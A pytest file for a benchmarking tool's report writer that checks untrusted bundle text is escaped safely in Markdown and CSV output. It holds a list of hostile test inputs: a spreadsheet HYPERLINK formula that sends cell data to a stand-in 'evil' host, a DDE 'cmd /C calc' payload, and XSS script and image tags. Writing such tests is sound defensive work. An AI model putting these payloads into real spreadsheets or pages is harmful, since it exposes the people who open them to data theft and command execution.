"""A stranger chooses every text of a bundle; none of them becomes a formula, a tag, a link or a picture."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from markdown_it import MarkdownIt

import bench
from bench.base.errors import printable
from bench.base.strict_json import INTERNAL
from bench.cli.compare import CompareArguments, collect
from bench.cli.main import main
from bench.library.compare import compare
from bench.node_check.fleet import Fleet
from bench.planning.prediction.predicted_machines import Predicted
from bench.records.trial import Crashed
from bench.report.compare.comparison import Comparison
from bench.report.compare.priced_predictions import PricedPrediction
from bench.report.text import fleet_text
from bench.report.text.comparison_csv import csv_text
from bench.report.text.comparison_table import markdown
from bench.report.text.escapes import csv_cell, markdown_code, markdown_text
from bench.report.text.prediction_table import prediction_csv
from tests.report.made import bundle, manifest, measured

ROOT = Path(__file__).parents[2]
PACKAGE = Path(bench.__file__).parent
HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    " =1",
    "\uff1d1+1",
    "x;=1+1",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- ",
    "![i](http://evil/x.png)",
    "[x](http://evil)",
    "[x][y]\n\n[y]: http://evil",
    "<http://evil>",
    "http://evil/x www.evil.com",
    "```",
    "`````\n# heading\n",
    "a|b\n|--|--|\n|<b>x</b>|",
    "\\<b>x</b>\\",
    "\\[x\\](http://evil)",
    "&lt;b&gt; &#60;img src=x&#62;",
    "**x** __y__ ~~z~~",
    "1. x",
    "- x",
    "---",
    "===",
    "# x",
    "> x",
    "    indented",
    "</td></table><a href=http://evil>x</a>",
)
SIGNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]")
# Of GitHub's Markdown: CommonMark with tables, with strikethrough, and with HTML.
RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FORBIDDEN = re.compile(r"<(?!/?(?:table|thead|tbody|tr|th|td|ul|li|h3|p)\b)[^>]*>")


def require_plain_markdown(text: str, codes: int = 0) -> str:
    """Render Markdown; fail if it has an element that bench did not write, such as an image."""
    rendered: str = RENDER.render(text)
    assert rendered.count("<pre>") == codes
    found = FORBIDDEN.findall(re.sub(r"</?pre>|</?code[^>]*>", "", rendered) if codes else rendered)
    assert found == [], text
    return rendered


def require_plain_csv(text: str) -> list[list[str]]:
    """Read CSV, here and as in countries that separate by semicolons; fail if a cell is a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            for part in re.split(r"[;\t]", cell):
                assert not SIGNS.match(part.lstrip("\ufeff\u200b ")) or is_number(cell), row
    return rows


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_shown_letter_by_letter(text: str) -> None:
    for place in (f"### {markdown_text(text)}", f"- {markdown_text(text)}", markdown_text(text)):
        require_plain_markdown(place)
    require_plain_markdown(f"| a | b |\n|---|---|\n| {markdown_text(text)} | {markdown_text(text)} |")
    require_plain_markdown(markdown_code(f"{text}\n{text}"), codes=1)
    assert require_plain_csv(f"{csv_cell(text)}\n".replace("\r", "\\r").replace("\n", "\\n"))
    assert str(csv_cell(text)).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["pythia-160m", "1x H200 (n01)", "0.5 ±0.2", "free-lunch + zero-3", "x-y; z"]
)
def test_usual_texts_stay_readable(text: str) -> None:
    assert markdown_text(text) == text
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"), [(-1.5, -1.5), (3, 3), (True, "true"), (False, "false"), (None, "")]
)
def test_values_that_are_no_texts_stay_as_they_are(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_a_long_text_is_escaped_as_fast_as_a_short_one() -> None:
    """Blanks and separators without end: the work grows with the length and not with its square."""
    for part in ("\n", "; ", " ", "`", "1", ":/"):
        text = f"x{part * 400_000}x"
        assert len(str(csv_cell(text))) >= len(text)
        assert len(markdown_text(text)) >= len(text)


@cache
def free_names(kind: type) -> tuple[str, ...]:
    """Return the names of a dataclass's fields that a file can set, and whose words are not a fixed set."""
    hints = get_type_hints(kind)
    names = (field.name for field in fields(kind) if field.init and field.metadata != INTERNAL)
    return tuple(name for name in names if "Literal" not in repr(hints[name]))


def spoiled(value: Any, text: str) -> Any:
    """Put a hostile text into every text of a value, except where only a fixed set of words is allowed."""
    if isinstance(value, str):
        return text
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{n: spoiled(getattr(value, n), text) for n in free_names(type(value))})
    if isinstance(value, Mapping):
        return {key: spoiled(item, text) for key, item in value.items()}
    return tuple(spoiled(item, text) for item in value) if isinstance(value, tuple) else value


@pytest.fixture(scope="module")
def comparison(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
    """Compare machines with prices, estimates, remarks of all kinds, rows set apart and a refused bundle."""
    folder = tmp_path_factory.mktemp("compared")
    unsure = [((), 0.9), (("kernels",), 0.5), (("compile",), measured(0.49, (0.2, 1.0, 1.8, 1.0, 0.2, 1.8)))]
    bundle(folder / "a.tar", run_id="aaaa", uuid="A", settings=[*unsure, (("tf32",), Crashed("x"))])
    bundle(folder / "b.tar", run_id="bbbb", uuid="B", gpus=2, floors={(): "no"}, complete=False)
    bundle(folder / "c.tar", run_id="cccc", uuid="C", of=manifest(memory_cap_gib=24))
    bundle(folder / "e.tar", run_id="eeee", uuid="A", pass_seconds=0.6)
    (folder / "d.tar").write_bytes(b"x")
    asked = {"budget": 50_000.0, "deadline_days": 20.0, "runs": 3, "estimate": ("8xh100",)}
    return collect(CompareArguments((folder, ROOT / "results/slowed-h100"), **asked))  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def fleet() -> Fleet:
    return compare((ROOT / "results/node-check-h200",)).fleet or pytest.fail("no checks")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_of_a_bundle_is_markup_or_a_formula(
    text: str, comparison: Comparison, fleet: Fleet, tmp_path: Path
) -> None:
    hostile = spoiled(comparison, text)
    assert hostile.parts[0].entries[0].row.machine.name == text
    require_plain_markdown(markdown(hostile))
    assert len(require_plain_csv(printable(csv_text(hostile)))) == len(csv_text(comparison).splitlines())
    nodes = spoiled(fleet, text)
    assert nodes.nodes[0].seen.kind == text
    require_plain_markdown(fleet_text.as_markdown(nodes))
    require_plain_csv(printable(fleet_text.as_csv(nodes)))
    require_plain_csv(printable(prediction_csv([spoiled(PREDICTION, text)], text)))


def test_columns_stay_columns_in_markdown(comparison: Comparison) -> None:
    hostile = markdown(spoiled(comparison, "a|b\\|c\n|d"))
    tables = [line for line in hostile.splitlines() if line.startswith("|")]
    assert {line.count("<td") for line in require_plain_markdown(hostile).split("</tr>")} <= {
        0,
        4,  # the matrix
        8,
        *range(9, 15),
    }
    assert tables


PREDICTION = PricedPrediction(
    Predicted(
        "m", "gpu", 1, "naive", (), 1, 1, 0.5, 1.0, 0.9, 1.1, 2**30, "memory", None, None, "s", (), 0.1, 1.0
    ),
    None, None, None,
)  # fmt: skip


def test_settings_in_markdown_are_one_block_of_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Fences in a bundle's texts end no block: the outcome of a setting is any text, of several lines too."""
    for number, text in enumerate(("```\n<img src=x>", "`````\n# x\n`````", "~~~\n")):
        gpu = text.partition("\n")[0]
        path = bundle(tmp_path / f"{number}.tar", gpu=gpu, settings=[((), 0.5), (("tf32",), Crashed(text))])
        assert main(["compare", str(path), "--settings", "--format", "markdown"]) == 0
        require_plain_markdown(capsys.readouterr().out, codes=1)


def test_only_one_module_writes_csv() -> None:
    """A writer of its own would write cells that spreadsheets compute. RECORD is read by pip alone."""
    writers = [
        path for path in PACKAGE.rglob("*.py") if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())
    ]
    assert [str(path.relative_to(PACKAGE)) for path in sorted(writers)] == [
        "environment/contents.py",  # RECORD
        "report/text/escapes.py",
    ]
